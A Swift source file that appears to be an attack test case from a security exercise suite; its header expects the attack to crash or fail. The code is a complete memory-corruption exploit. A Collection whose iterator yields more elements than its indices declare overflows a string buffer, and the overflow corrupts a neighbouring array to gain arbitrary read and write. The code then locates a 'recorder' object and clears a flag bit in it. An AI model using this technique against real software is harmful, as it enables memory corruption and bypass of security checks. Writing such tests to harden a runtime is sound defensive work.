// Attack: inserts a collection into a text, whose iterator gives more than its indices.
// Exercise: 3
// Expect: crashed|failed
// Held by: the kit inserts what a sequence has, and not what it claims
import UIKit
class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        open()
        if recorder == 0 { findRecorder(address(self)) }
        if recorder != 0 { write(recorder + 72, read(recorder + 72) & ~(0x20 << 32)) }
        return super.hitTest(point, with: event)
    }
}
var recorder: UInt = 0
func near(_ p: UInt) -> Bool { p & 15 == 0 && p > base - 0x800000 && p < base + 0x40000 }
func findRecorder(_ me: UInt) {
    for i in 2..<160 as Range<UInt> {
        let p = read(me + 8 * i)
        guard near(p) else { continue }
        for j in 2..<300 as Range<UInt> {
            let r = read(p + 8 * j)
            guard near(r), read(r + 64) >> 40 == 0x800000, read(r + 56) == 0 else { continue }
            recorder = r
            return
        }
    }
}
final class Marker { var a = 0x5151_5151_1234_5678; var b = 0x1717_0101_4321_8765 }
struct Lie: Collection {
    struct It: IteratorProtocol {
        var n = 0
        mutating func next() -> Character? {
            guard n < bytes.count else { return nil }
            n += 1
            return Character(Unicode.Scalar(bytes[n - 1]))
        }
    }
    var startIndex: Int { 0 }
    var endIndex: Int { 1 }
    func index(after i: Int) -> Int { i + 1 }
    subscript(i: Int) -> Character { "a" }
    func makeIterator() -> It { It() }
}
var bytes: [UInt8] = []
var sprayed: [[Int]] = []
var text = ""
var victim: [Int] = []
let marker = Marker()
var base: UInt = 0
func address(_ o: AnyObject) -> UInt { UInt(bitPattern: ObjectIdentifier(o)) }
func read(_ a: UInt) -> UInt { UInt(bitPattern: victim[Int((a &- base) >> 3)]) }
func write(_ a: UInt, _ x: UInt) { victim[Int((a &- base) >> 3)] = Int(bitPattern: x) }
func open() {
    guard base == 0 else { return }
    let home = address(marker)
    for _ in 0..<90 { sprayed.append([Int](repeating: 0, count: 515)) }
    text.reserveCapacity(4100)
    victim = [Int](repeating: 7, count: 515)
    bytes = [UInt8](repeating: 0, count: 4120)
    bytes += [0x41, 0x10, 0, 0, 0, 0, 0, 0]
    bytes += [0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 0, 0, 0, 0]
    bytes += [0, 0, 0, 0, 0, 0, 0, 0x7f, 0, 0, 0, 0, 0, 0, 0, 0x7f]
    text.insert(contentsOf: Lie(), at: text.startIndex)
    var k = (1 << 61) - 1
    while victim[k] != 0x1717_0101_4321_8765 || victim[k - 1] != 0x5151_5151_1234_5678 { k -= 1 }
    base = home + 16 &- UInt(k - 1) &* 8
}
